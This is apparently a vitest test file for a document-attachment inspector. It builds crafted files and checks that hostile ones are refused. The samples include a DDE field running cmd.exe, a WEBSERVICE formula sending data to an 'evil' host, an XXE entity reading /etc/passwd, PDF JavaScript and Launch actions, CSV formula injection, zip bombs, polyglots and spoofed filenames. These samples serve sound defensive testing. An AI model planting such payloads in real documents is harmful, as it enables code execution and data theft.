import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';
import { type ZipMember, zip } from '@kuaishu/catalog/testing';
import { writeWorkbook } from '@kuaishu/engine';
import { sm3 } from '@kuaishu/gm';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectApart } from './apart.ts';
import { inspectAttachment, inspectBytes, inspectFormBytes } from './inspect.ts';

const TYPES = (main: string, more = '') =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}.main+xml"/>${more}</Types>`;
const RELS = (target = 'word/document.xml', more = '') =>
  `<Relationships xmlns="r"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>${more}</Relationships>`;
const BODY = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>贵州省</w:t></w:r></w:p></w:body></w:document>';

function docx(
  more: readonly ZipMember[] = [],
  { types = '', body = BODY }: { types?: string; body?: string } = {},
): Buffer {
  return zip([
    { name: '[Content_Types].xml', content: TYPES('wordprocessingml.document', types) },
    { name: '_rels/.rels', content: RELS() },
    { name: 'word/document.xml', content: body },
    ...more,
  ]);
}
function xlsx(
  more: readonly ZipMember[] = [],
  sheet = '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
): Buffer {
  return zip([
    { name: '[Content_Types].xml', content: TYPES('spreadsheetml.sheet') },
    { name: '_rels/.rels', content: RELS('xl/workbook.xml') },
    { name: 'xl/workbook.xml', content: '<workbook><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>' },
    { name: 'xl/worksheets/sheet1.xml', content: sheet },
    ...more,
  ]);
}
const external = (type: string, target: string) =>
  RELS(
    'x.xml',
    `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  );

const PDF = (objects = '', tail = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${objects}\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n${tail}`,
    'latin1',
  );
function objectStream(
  content: string,
  filter = '/FlateDecode',
  body: Buffer = deflateSync(Buffer.from(content, 'latin1')),
): Buffer {
  const head = Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${body.length} >>\nstream\n`,
    'latin1',
  );
  return Buffer.concat([head, body, Buffer.from('\nendstream\nendobj\nstartxref\n9\n%%EOF\n', 'latin1')]);
}

function png(width = 2, height = 2, after: Buffer = Buffer.alloc(0)): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(6))),
    chunk('IEND', Buffer.alloc(0)),
    after,
  ]);
}
function jpeg(after: Buffer = Buffer.alloc(0), size = 2): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, size >> 8, size & 255, size >> 8, size & 255, 1, 1, 0x11, 0]);
  const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0x4a, 0x46]),
    frame,
    scan,
    Buffer.from([0xff, 0xd9]),
    after,
  ]);
}
const OFD = (more: readonly ZipMember[] = []) =>
  zip([
    {
      name: 'OFD.xml',
      content: '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD" Version="1.0"><ofd:DocBody/></ofd:OFD>',
    },
    { name: 'Doc_0/Document.xml', content: '<ofd:Document/>' },
    ...more,
  ]);
const CFB = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(512),
  ]);
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('');

describe('what is taken', () => {
  it.each<[string, Buffer, string]>([
    ['申请表.docx', docx(), 'docx'],
    ['目录.xlsx', xlsx(), 'xlsx'],
    ['公文.OFD', OFD(), 'ofd'],
    ['批复.pdf', PDF(), 'pdf'],
    ['批复2.pdf', objectStream('1 0 << /Type /Page >>'), 'pdf'],
    ['公章.png', png(), 'png'],
    ['现场.JPG', jpeg(), 'jpeg'],
    ['数据.csv', Buffer.from('\uFEFF姓名,数量\r\n张三,-5\r\n'), 'csv'],
    ['说明.txt', Buffer.from('贵州\r\n'), 'text'],
    ['旧编码.csv', Buffer.from([0xb9, 0xf3, 0xd6, 0xdd, 0x2c, 0x31]), 'csv'],
    [
      '链接.docx',
      docx([{ name: 'word/_rels/document.xml.rels', content: external('hyperlink', 'https://www.guizhou.gov.cn') }]),
      'docx',
    ],
  ])('%s', async (name, bytes, kind) => {
    const found = await inspectAttachment(bytes, name);
    expect(found).toMatchObject({
      ok: true,
      kind,
      name,
      size: bytes.length,
      digest: {
        sm3: Buffer.from(sm3(bytes)).toString('hex'),
        sha256: createHash('sha256').update(bytes).digest('hex'),
      },
    });
    expect(await inspectAttachment(Readable.from([bytes.subarray(0, 9), bytes.subarray(9)]), name)).toEqual(found);
  });

  it('a workbook that the platform itself writes', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'kuaishu-attachments-'));
    try {
      const path = join(folder, 'a.xlsx');
      await writeWorkbook(path, [{ name: 's', columns: ['a', 'b'], rows: [['1', '2']], choices: { a: ['1', '2'] } }]);
      expect(inspectBytes(await readFile(path), 'a.xlsx')).toMatchObject({ ok: true, kind: 'xlsx' });
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});

describe('what is refused, in words and with a way out', () => {
  const rels = (type: string, target: string) =>
    docx([{ name: 'word/_rels/settings.xml.rels', content: external(type, target) }]);
  const field = (code: string) =>
    docx([], { body: `<w:document xmlns:w="w"><w:body><w:p><w:r>${code}</w:r></w:p></w:body></w:document>` });
  it.each<[string, string, Buffer, string]>([
    ['nothing', 'a.pdf', Buffer.alloc(0), 'EMPTY'],
    ['an archive', 'a.zip', zip([{ name: 'a.txt', content: 'x' }]), 'KIND_NOT_ALLOWED'],
    ['an archive called a document', 'a.docx', zip([{ name: 'a.txt', content: 'x' }]), 'KIND_NOT_ALLOWED'],
    ['a program', 'a.pdf', Buffer.from('MZ\x90\x00 program'), 'KIND_NOT_ALLOWED'],
    ['a program of Linux', 'a.txt', Buffer.from('\x7fELF....', 'latin1'), 'KIND_NOT_ALLOWED'],
    ['bytes of no kind', 'a.txt', Buffer.from([1, 2, 3, 0, 255, 254]), 'KIND_NOT_ALLOWED'],
    ['a page', 'a.txt', Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), 'POLYGLOT'],
    ['a drawing that runs', 'a.txt', Buffer.from('<svg onload="x"/>'), 'POLYGLOT'],
    ['a PDF called a picture', 'a.png', PDF(), 'EXTENSION_MISMATCH'],
    ['a picture called a PDF', 'a.pdf', png(), 'EXTENSION_MISMATCH'],
    ['a document called a workbook', 'a.xlsx', docx(), 'EXTENSION_MISMATCH'],
    ['a document without extension', 'docx', docx(), 'EXTENSION_MISMATCH'],
    ['macros by their part', 'a.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'MACRO'],
    [
      'macros by their type',
      'a.docx',
      docx([], { types: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }),
      'MACRO',
    ],
    ['a sheet of old macros', 'a.xlsx', xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]), 'MACRO'],
    [
      'a macro that runs when it opens',
      'a.xlsx',
      xlsx([
        {
          name: 'xl/workbook2.xml',
          content: '<workbook><definedName name="_xlnm.Auto_Open">A!$A$1</definedName></workbook>',
        },
      ]),
      'MACRO',
    ],
    ['old Office macros', 'a.doc', CFB('_VBA_PROJECT'), 'MACRO'],
    ['an old format', 'a.wps', CFB('WordDocument'), 'KIND_NOT_ALLOWED'],
    ['a password on Office', 'a.docx', CFB('EncryptedPackage'), 'ENCRYPTED'],
    [
      'a password on a member',
      'a.docx',
      zip([{ name: '[Content_Types].xml', content: TYPES('wordprocessingml.document'), encrypted: true }]),
      'ENCRYPTED',
    ],
    ['a control', 'a.docx', docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]), 'ACTIVE_CONTENT'],
    ['an embedded object', 'a.docx', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]), 'EMBEDDED_FILE'],
    [
      'an archive within',
      'a.docx',
      docx([{ name: 'word/media/a.bin', content: zip([{ name: 'x', content: 'y' }]) }]),
      'EMBEDDED_FILE',
    ],
    ['a program within', 'a.docx', docx([{ name: 'word/media/a.png', content: 'MZ...' }]), 'EMBEDDED_FILE'],
    ['a template from outside', 'a.docx', rels('attachedTemplate', 'http://evil/x.dotm'), 'EXTERNAL_LINK'],
    ['a picture from outside', 'a.docx', rels('image', '\\\\evil\\share\\x.png'), 'EXTERNAL_LINK'],
    ['a link that runs', 'a.docx', rels('hyperlink', 'ms-msdt:/id'), 'EXTERNAL_LINK'],
    ['a link to a file', 'a.docx', rels('hyperlink', 'file:///c:/x'), 'EXTERNAL_LINK'],
    [
      'DDE in a field',
      'a.docx',
      field('<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText>'),
      'EXTERNAL_LINK',
    ],
    [
      'DDE scattered over runs',
      'a.docx',
      field('<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>'),
      'EXTERNAL_LINK',
    ],
    ['a field that fetches', 'a.docx', field('<w:fldSimple w:instr="INCLUDEPICTURE \\\\evil"/>'), 'EXTERNAL_LINK'],
    [
      'a link between workbooks',
      'a.xlsx',
      xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }]),
      'EXTERNAL_LINK',
    ],
    ['a data connection', 'a.xlsx', xlsx([{ name: 'xl/connections.xml', content: '<x/>' }]), 'EXTERNAL_LINK'],
    [
      'a formula that calls out',
      'a.xlsx',
      xlsx([], '<worksheet><sheetData><c><f>WEBSERVICE("http://evil/"&amp;A1)</f></c></sheetData></worksheet>'),
      'EXTERNAL_LINK',
    ],
    [
      'entities',
      'a.docx',
      docx([], { body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document/>' }),
      'ACTIVE_CONTENT',
    ],
    [
      'entities in UTF-16',
      'a.docx',
      docx([{ name: 'word/x.xml', content: Buffer.from('\uFEFF<!DOCTYPE a><a/>', 'utf16le') }]),
      'ACTIVE_CONTENT',
    ],
    ['a bomb', 'a.docx', docx([{ name: 'word/x.xml', content: Buffer.alloc(30 * 1024 ** 2) }]), 'BOMB'],
    [
      'a bomb that lies',
      'a.docx',
      docx([{ name: 'word/x.xml', content: Buffer.alloc(30 * 1024 ** 2), declare: 9 }]),
      'BOMB',
    ],
    [
      'overlapping members',
      'a.docx',
      zip(
        [
          { name: 'a', content: 'x' },
          { name: 'b', content: 'x', localName: 'a' },
        ],
        { overlap: true },
      ),
      'BOMB',
    ],
    ['data behind a container', 'a.docx', Buffer.concat([docx(), Buffer.from('<script>')]), 'POLYGLOT'],
    ['a cut container', 'a.docx', docx().subarray(0, 200), 'DAMAGED'],
    [
      'a template',
      'a.docx',
      zip([
        { name: '[Content_Types].xml', content: TYPES('wordprocessingml.template') },
        { name: 'word/document.xml', content: BODY },
      ]),
      'KIND_NOT_ALLOWED',
    ],
    ['attachments of an OFD', 'a.ofd', OFD([{ name: 'Doc_0/Attachs/x.exe', content: 'x' }]), 'EMBEDDED_FILE'],
    ['scripts in a PDF', 'a.pdf', PDF('2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj'), 'ACTIVE_CONTENT'],
    ['scripts under another spelling', 'a.pdf', PDF('2 0 obj << /S /J#61vaScript >> endobj'), 'ACTIVE_CONTENT'],
    ['scripts in packed objects', 'a.pdf', objectStream('1 0 << /S /JavaScript /JS 3 0 R >>'), 'ACTIVE_CONTENT'],
    ['objects packed strangely', 'a.pdf', objectStream('x', '[/ASCII85Decode /LZWDecode]'), 'ACTIVE_CONTENT'],
    ['a PDF that starts programs', 'a.pdf', PDF('<< /S /Launch /F (cmd.exe) >>'), 'ACTIVE_CONTENT'],
    ['files in a PDF', 'a.pdf', PDF('<< /Type /EmbeddedFile >>'), 'EMBEDDED_FILE'],
    ['an encrypted PDF', 'a.pdf', PDF('<< /Encrypt 5 0 R >>'), 'ENCRYPTED'],
    ['an XFA form', 'a.pdf', PDF('<< /XFA 5 0 R >>'), 'ACTIVE_CONTENT'],
    ['a bomb in a PDF', 'a.pdf', objectStream('x', '/FlateDecode', deflateSync(Buffer.alloc(40 * 1024 ** 2))), 'BOMB'],
    ['an archive behind a PDF', 'a.pdf', Buffer.concat([PDF(), zip([{ name: 'a', content: 'b' }])]), 'POLYGLOT'],
    ['something before a PDF', 'a.pdf', Buffer.concat([Buffer.from('GIF89a'), PDF()]), 'POLYGLOT'],
    ['a cut PDF', 'a.pdf', Buffer.from('%PDF-1.7\n1 0 obj'), 'DAMAGED'],
    ['an archive behind a picture', 'a.png', png(2, 2, zip([{ name: 'a', content: 'b' }])), 'POLYGLOT'],
    ['an archive behind a photograph', 'a.jpg', jpeg(zip([{ name: 'a', content: 'b' }])), 'POLYGLOT'],
    ['a picture of billions of pixels', 'a.png', png(100_000, 100_000), 'BOMB'],
    ['a cut picture', 'a.png', png().subarray(0, 40), 'DAMAGED'],
    ['a table that starts programs', 'a.csv', Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n"), 'ACTIVE_CONTENT'],
    ['the scanners’ test', 'a.txt', Buffer.from(EICAR), 'MALWARE'],
    ['the same within a document', 'a.docx', docx([{ name: 'word/x.xml', content: EICAR }]), 'MALWARE'],
    ['a name turned round', 'a\u202Efdp.exe.pdf', PDF(), 'NAME_UNSAFE'],
    ['two extensions', 'a.exe.pdf', PDF(), 'NAME_UNSAFE'],
    ['no name', '../', PDF(), 'NAME_UNSAFE'],
    ['a name without end', `${'长'.repeat(100)}.pdf`, PDF(), 'NAME_UNSAFE'],
  ])('%s', async (_, name, bytes, code) => {
    const found = await inspectAttachment(bytes, name);
    expect(found).toMatchObject({ ok: false, code });
    if (!found.ok)
      expect([found.message.zh, found.message.en, found.mend.zh, found.mend.en].every((text) => text.length > 2)).toBe(
        true,
      );
  });

  it('more than may be sent, without reading the rest', async () => {
    let given = 0;
    async function* endless() {
      for (;;) {
        given += 1024;
        yield new Uint8Array(1024);
      }
    }
    expect(await inspectAttachment(endless(), 'a.txt', { mostBytes: 10_000 })).toMatchObject({
      ok: false,
      code: 'TOO_LARGE',
    });
    expect(given).toBeLessThan(20_000);
  });

  it('kinds that a case does not take, and what a scanner of one’s own finds', async () => {
    expect(await inspectAttachment(png(), 'a.png', { kinds: ['pdf'] })).toMatchObject({ code: 'KIND_NOT_ALLOWED' });
    const scanners = [(bytes: Buffer) => (bytes.includes('worm') ? { zh: '蠕虫', en: 'a worm' } : undefined)];
    expect(
      await inspectAttachment(docx([{ name: 'word/x.xml', content: '<a>worm</a>' }]), 'a.docx', { scanners }),
    ).toMatchObject({ code: 'MALWARE', message: { en: 'a worm' } });
  });
});

it('any bytes under any name end in a verdict, never in an exception (property)', () => {
  const seeds = [docx(), xlsx(), OFD(), PDF(), objectStream('1 0 <<>>'), png(), jpeg(), Buffer.from('a,b\n1,2')];
  const bent = fc
    .tuple(fc.constantFrom(...seeds), fc.array(fc.tuple(fc.nat(), fc.nat({ max: 255 })), { maxLength: 6 }), fc.nat())
    .map(([seed, edits, cut]) => {
      const bytes: Buffer = Buffer.from(seed);
      for (const [at, byte] of edits) bytes[at % bytes.length] = byte;
      return cut % 3 === 0 ? bytes.subarray(0, cut % bytes.length) : bytes;
    });
  fc.assert(
    fc.property(
      fc.oneof(
        bent,
        fc.uint8Array({ maxLength: 200 }).map((bytes): Buffer => Buffer.from(bytes)),
      ),
      fc.constantFrom('a.docx', 'a.pdf', 'a.png', 'a.csv', 'a'),
      (bytes, name) => {
        expect(typeof inspectBytes(bytes, name).ok).toBe('boolean');
        expect(inspectFormBytes(bytes)?.ok ?? false).toBe(false);
      },
    ),
    { numRuns: 1500 },
  );
});

it('large files are inspected in a thread of their own, and given up when they take too long', async () => {
  const large = Buffer.from(`a,b\n${'贵州,1\n'.repeat(60_000)}`);
  expect(await inspectApart(large, 'a.csv')).toEqual(inspectBytes(large, 'a.csv'));
  const many = docx(
    Array.from({ length: 3000 }, (_, i) => ({
      name: `word/p${i}.xml`,
      content: `<a>${'x'.repeat(20_000)}${i}</a>`.repeat(2),
      store: true,
    })),
  );
  expect(await inspectApart(many, 'a.docx', { mostMs: 1 })).toMatchObject({ ok: false, code: 'BOMB' });
});
